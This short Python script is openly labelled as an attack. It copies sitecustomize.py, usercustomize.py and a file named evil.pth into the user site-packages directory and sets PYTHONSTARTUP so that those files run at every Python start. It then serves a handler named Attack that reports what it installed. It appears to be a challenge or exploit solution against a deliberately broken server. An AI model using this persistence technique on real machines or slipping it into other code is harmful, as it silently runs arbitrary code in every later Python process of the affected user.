import os
import shutil
import site

import server

folder = site.getusersitepackages()
os.makedirs(folder, exist_ok=True)
for name in ("sitecustomize.py", "usercustomize.py", "evil.pth"):
    shutil.copy(name, folder)
os.environ["PYTHONSTARTUP"] = os.path.abspath("sitecustomize.py")


class Attack(server.Broken):
    def answer(self):
        self.reply(200, {"installed": sorted(os.listdir(folder))})
        if self.path.startswith("/echo"):
            os._exit(0)


server.serve(Attack)
